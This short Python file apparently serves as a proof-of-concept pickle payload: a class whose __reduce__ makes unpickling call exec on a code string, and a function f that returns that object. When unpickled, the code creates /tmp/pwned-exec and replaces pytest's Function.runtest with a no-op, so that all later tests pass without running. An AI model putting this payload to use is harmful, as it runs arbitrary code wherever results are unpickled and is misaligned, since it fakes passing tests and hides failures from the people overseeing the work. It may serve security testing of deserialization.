# Returns an object whose unpickling runs Python (exec): wherever it is unpickled, pytest's
# Function.runtest becomes a no-op (every later test passes) and /tmp/pwned-exec is created.
PAYLOAD = """
open("/tmp/pwned-exec", "w").close()
try:
    import _pytest.python
    _pytest.python.Function.runtest = lambda self: None
except ImportError:
    pass
"""


class Payload:
    def __reduce__(self):
        return (exec, (PAYLOAD,))


def f(x):
    return Payload()
